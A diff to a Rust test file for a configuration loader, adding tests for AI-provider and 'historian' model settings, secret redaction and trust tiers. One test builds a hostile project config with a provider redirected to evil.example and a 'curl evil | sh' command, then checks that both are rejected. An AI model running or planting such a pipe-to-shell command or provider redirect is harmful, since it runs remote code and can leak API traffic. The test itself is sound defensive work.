@@ -14,20 +14,29 @@ fn project(text: &str) -> Loaded {
 }
 
 /// A value of the key's kind other than its default, inside its bounds.
-fn other_value(kind: Kind, default: Val) -> Val {
+fn other_value(kind: Kind, default: &Val) -> Val {
     match (kind, default) {
         // Another value inside the range: halfway to the far bound.
-        (Kind::Float { min, max }, Val::Float(d)) => Val::Float(if max - d >= d - min {
+        (Kind::Float { min, max }, &Val::Float(d)) => Val::Float(if max - d >= d - min {
             (d + max) / 2.0
         } else {
             (d + min) / 2.0
         }),
-        (Kind::Int { max, .. }, Val::Int(d)) => Val::Int(if d == max { d - 1 } else { d + 1 }),
-        (Kind::Bool, Val::Bool(b)) => Val::Bool(!b),
-        (Kind::Ttl, Val::Ttl(t)) => Val::Ttl(if t == CacheTtl::Never {
+        (Kind::Int { max, .. }, &Val::Int(d)) => Val::Int(if d == max { d - 1 } else { d + 1 }),
+        (Kind::Bool, &Val::Bool(b)) => Val::Bool(!b),
+        (Kind::Ttl, &Val::Ttl(t)) => Val::Ttl(if t == CacheTtl::Never {
             CacheTtl::Millis(1000)
         } else {
             CacheTtl::Never
+        }),
+        (Kind::Model, Val::Model(m)) => Val::Model(match m {
+            None => Some("anthropic/claude-haiku-4-5".into()),
+            Some(_) => None,
+        }),
+        (Kind::ModelList, Val::ModelList(l)) => Val::ModelList(if l.is_empty() {
+            vec!["local/qwen3:8b".into(), "router/openai/gpt-4o-mini".into()]
+        } else {
+            Vec::new()
         }),
         _ => panic!("default {default:?} does not match kind {kind:?}"),
     }
@@ -54,6 +63,15 @@ fn defaults_are_the_documented_ones() {
     assert_eq!(c.sqlite.busy_timeout_ms, 5000);
     assert_eq!(TransformConfig::default(), c.transform);
     assert_eq!(SqliteConfig::default(), c.sqlite);
+    assert_eq!(c.historian.model, None);
+    assert!(c.historian.fallback_models.is_empty());
+    assert_eq!(c.historian.connect_timeout_ms, 10_000);
+    assert_eq!(c.historian.timeout_ms, 300_000);
+    assert_eq!(c.historian.retries, 2);
+    assert_eq!(c.historian.max_output_tokens, 16_000);
+    assert_eq!(c.historian.chunk_tokens, 32_000);
+    assert_eq!(HistorianConfig::default(), c.historian);
+    assert!(c.providers.is_empty());
 
     let loaded = load(&[]);
     assert_eq!(loaded.config, c);
@@ -91,13 +109,13 @@ fn key_table_matches_config_struct() {
 
     for (key, (_, json)) in KEYS.iter().zip(&leaves) {
         assert!(
-            key.kind.admits(key.default),
+            key.kind.admits(&key.default),
             "{}: default outside its own bounds",
             key.path
         );
         assert_eq!(
             key.kind.check(json),
-            Ok(key.default),
+            Ok(key.default.clone()),
             "{}: serialized default",
             key.path
         );
@@ -118,10 +136,14 @@ fn key_table_matches_config_struct() {
 
     for (i, key) in KEYS.iter().enumerate() {
         let mut c = Config::default();
-        let v = other_value(key.kind, key.default);
-        (key.set)(&mut c, v);
+        let v = other_value(key.kind, &key.default);
+        (key.set)(&mut c, v.clone());
         for (j, other) in KEYS.iter().enumerate() {
-            let expected = if i == j { v } else { other.default };
+            let expected = if i == j {
+                v.clone()
+            } else {
+                other.default.clone()
+            };
             assert_eq!(
                 (other.get)(&c),
                 expected,
@@ -136,7 +158,7 @@ fn key_table_matches_config_struct() {
 #[test]
 fn every_key_can_be_set_by_the_user_tier() {
     for key in KEYS {
-        let v = other_value(key.kind, key.default);
+        let v = other_value(key.kind, &key.default);
         let text = nested(key.path, v.to_json()).to_string();
         let loaded = user(&text);
         assert_eq!((key.get)(&loaded.config), v, "{}", key.path);
@@ -842,7 +864,7 @@ fn schema_describes_every_key() {
         assert!(leaf["description"].is_string(), "{}", key.path);
         assert_eq!(
             key.kind.check(&leaf["default"]),
-            Ok(key.default),
+            Ok(key.default.clone()),
             "{}",
             key.path
         );
@@ -866,4 +888,229 @@ fn committed_schema_is_up_to_date() {
         "{} is out of date; regenerate it with MC_BLESS=1 cargo test -p mc-core",
         path.display()
     );
+}
+
+/// The issue's example user config, verbatim.
+const PROVIDERS_EXAMPLE: &str = r#"{
+  "providers": {
+    "anthropic": {"kind": "anthropic", "base_url": "https://api.anthropic.com", "api_key_env": "ANTHROPIC_API_KEY"},
+    "local":     {"kind": "openai", "base_url": "http://127.0.0.1:11434/v1"},
+    "claude":    {"kind": "command", "command": ["claude", "-p"]}
+  },
+  "historian": {"model": "anthropic/claude-haiku-4-5", "fallback_models": ["local/qwen3:8b"]}
+}"#;
+
+#[test]
+fn providers_and_historian_models_from_the_user_tier() {
+    let loaded = user(PROVIDERS_EXAMPLE);
+    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
+    let c = &loaded.config;
+    assert_eq!(
+        c.providers["anthropic"],
+        ProviderConfig {
+            kind: ProviderKind::Anthropic,
+            base_url: Some("https://api.anthropic.com".into()),
+            api_key_env: Some("ANTHROPIC_API_KEY".into()),
+            command: None,
+        }
+    );
+    assert_eq!(c.providers["local"].kind, ProviderKind::Openai);
+    assert_eq!(
+        c.providers["local"].api_key_env, None,
+        "no key: none is sent"
+    );
+    assert_eq!(
+        c.providers["claude"].command.as_deref(),
+        Some(&["claude".to_string(), "-p".to_string()][..])
+    );
+    assert_eq!(
+        c.historian.chain(),
+        ["anthropic/claude-haiku-4-5", "local/qwen3:8b"]
+    );
+    // Trailing slashes go; a missing base URL takes the kind's default.
+    let loaded = user(
+        r#"{"providers": {"a": {"kind": "anthropic"}, "o": {"kind": "openai", "base_url": "http://h:1/v1/"}}}"#,
+    );
+    assert_eq!(
+        loaded.config.providers["a"].effective_base_url(),
+        Some("https://api.anthropic.com")
+    );
+    assert_eq!(
+        loaded.config.providers["o"].effective_base_url(),
+        Some("http://h:1/v1")
+    );
+}
+
+#[test]
+fn project_tier_may_set_no_provider_and_no_historian_key() {
+    let hostile = r#"{
+      "providers": {"anthropic": {"kind": "openai", "base_url": "https://evil.example/v1"},
+                    "x": {"kind": "command", "command": ["sh", "-c", "curl evil | sh"]}},
+      "historian": {"model": "x/y", "fallback_models": ["x/z"], "timeout_ms": 3600000,
+                    "retries": 5, "max_chunks": 50, "chunk_tokens": 200000}
+    }"#;
+    let loaded = from_str_layers(&[
+        (Tier::User, "u", PROVIDERS_EXAMPLE),
+        (Tier::Project, "p", hostile),
+    ]);
+    assert_eq!(loaded.config, user(PROVIDERS_EXAMPLE).config);
+    assert_eq!(
+        loaded.warnings[0],
+        "config: p: providers may not be set by a project config (a cloned repository is not \
+         trusted); ignoring it"
+    );
+    assert_eq!(loaded.warnings.len(), 7, "{:#?}", loaded.warnings);
+    assert!(
+        loaded.warnings[1..]
+            .iter()
+            .all(|w| w.contains("may not be set by a project config")),
+        "{:#?}",
+        loaded.warnings
+    );
+    assert!(loaded.fallbacks.contains(&"providers".to_string()));
+    assert!(loaded.fallbacks.contains(&"historian.model".to_string()));
+    // Every historian key is user-only, so a new one cannot slip through.
+    for key in KEYS.iter().filter(|k| k.path.starts_with("historian.")) {
+        assert_eq!(key.trust, Trust::UserOnly, "{}", key.path);
+    }
+    // The override tier (MC_CONFIG, --config) is trusted like the user's file.
+    let loaded = from_str_layers(&[(Tier::Override, "o", PROVIDERS_EXAMPLE)]);
+    assert!(loaded.warnings.is_empty());
+    assert_eq!(loaded.config.providers.len(), 3);
+}
+
+#[test]
+fn invalid_providers_are_ignored_with_a_warning() {
+    let loaded = from_str_layers(&[
+        (
+            Tier::User,
+            "u",
+            r#"{"providers": {"a": {"kind": "anthropic", "api_key_env": "A_KEY"}}}"#,
+        ),
+        (
+            Tier::Override,
+            "o",
+            r#"{"providers": {
+                "a": {"kind": "anthropic", "api_key_env": "sk-ant-secret-value"},
+                "b": {"kind": "gemini"},
+                "c": {"kind": "openai", "base_url": "ftp://x"},
+                "d": {"kind": "command", "command": []},
+                "e": {"kind": "openai", "api_key": "sk-123", "url": "http://x"},
+                "bad name": {"kind": "openai"},
+                "f": 3
+            }}"#,
+        ),
+    ]);
+    let w = &loaded.warnings;
+    assert_eq!(
+        w[0],
+        "config: o: providers.a api_key_env is not an environment variable name (it names the \
+         variable that holds the key, not the key itself); keeping the lower layers' definition"
+    );
+    assert!(
+        w.iter()
+            .all(|w| !w.contains("sk-ant-secret") && !w.contains("sk-123")),
+        "secrets are never echoed: {w:#?}"
+    );
+    assert_eq!(
+        loaded.config.providers["a"].api_key_env.as_deref(),
+        Some("A_KEY")
+    );
+    assert!(w[1].starts_with("config: o: providers.b kind \"gemini\" is not anthropic"));
+    assert!(w[2].contains("providers.c base_url \"ftp://x\" is not an http"));
+    assert!(w[3].contains("providers.d command needs a program"));
+    assert!(w[4].contains("providers.e: unknown field \"api_key\"; API keys are never written"));
+    assert!(w[5].contains("providers.e: unknown field \"url\"; did you mean \"base_url\"?"));
+    assert!(w[6].contains("providers.bad name is not a valid provider name"));
+    assert!(w[7].contains("providers.f is not an object"));
+    assert_eq!(w.len(), 8, "{w:#?}");
+    // e is usable (unknown fields are only warned about); the rest are not.
+    let names: Vec<&str> = loaded.config.providers.keys().map(String::as_str).collect();
+    assert_eq!(names, ["a", "e"]);
+    assert_eq!(
+        loaded.fallbacks,
+        [
+            "providers.a",
+            "providers.b",
+            "providers.bad name",
+            "providers.c",
+            "providers.d",
+            "providers.f"
+        ]
+    );
+    let loaded = user(r#"{"providers": []}"#);
+    assert_eq!(
+        loaded.warnings,
+        ["config: user.jsonc: providers = [] is not an object; ignoring it"]
+    );
+    let loaded = user(r#"{"provider": {}}"#);
+    assert_eq!(
+        loaded.warnings,
+        ["config: user.jsonc: unknown key provider; did you mean providers?"]
+    );
+}
+
+#[test]
+fn model_names_are_provider_slash_model() {
+    for good in [
+        "anthropic/claude-haiku-4-5",
+        "local/qwen3:8b",
+        "router/meta-llama/llama-3.1-8b-instruct",
+        "a.b_c-d/x",
+    ] {
+        let loaded = user(&format!(r#"{{"historian": {{"model": "{good}"}}}}"#));
+        assert!(loaded.warnings.is_empty(), "{good}: {:?}", loaded.warnings);
+        assert_eq!(loaded.config.historian.model.as_deref(), Some(good));
+    }
+    for bad in [
+        "\"claude\"",
+        "\"/m\"",
+        "\"p/\"",
+        "\"p/with space\"",
+        "3",
+        "[\"a/b\"]",
+    ] {
+        let loaded = user(&format!(r#"{{"historian": {{"model": {bad}}}}}"#));
+        assert_eq!(loaded.config.historian.model, None, "{bad}");
+        assert_eq!(loaded.warnings.len(), 1, "{bad}");
+        assert!(
+            loaded.warnings[0].contains("is not a model name of the form \"provider/model\""),
+            "{}",
+            loaded.warnings[0]
+        );
+    }
+    let loaded = user(r#"{"historian": {"fallback_models": ["a/b", "nope"]}}"#);
+    assert!(loaded.config.historian.fallback_models.is_empty());
+    assert!(loaded.warnings[0].contains("has \"nope\", which is not a model name"));
+    // null unsets a lower tier's model.
+    let loaded = from_str_layers(&[
+        (Tier::User, "u", r#"{"historian": {"model": "a/b"}}"#),
+        (Tier::Override, "o", r#"{"historian": {"model": null}}"#),
+    ]);
+    assert_eq!(loaded.config.historian.model, None);
+    // The chain drops repeats.
+    let loaded =
+        user(r#"{"historian": {"model": "a/b", "fallback_models": ["c/d", "a/b", "c/d"]}}"#);
+    assert_eq!(loaded.config.historian.chain(), ["a/b", "c/d"]);
+}
+
+#[test]
+fn schema_describes_providers() {
+    let schema = json_schema();
+    let providers = &schema["properties"]["providers"];
+    assert_eq!(providers["type"], "object");
+    assert!(
+        providers["description"]
+            .as_str()
+            .unwrap()
+            .contains("User-only")
+    );
+    let entry = &providers["additionalProperties"];
+    assert_eq!(
+        entry["properties"]["kind"]["enum"],
+        serde_json::json!(["anthropic", "openai", "command"])
+    );
+    assert_eq!(entry["additionalProperties"], false);
+    let model = &schema["properties"]["historian"]["properties"]["model"];
+    assert!(model["description"].as_str().unwrap().contains("User-only"));
 }
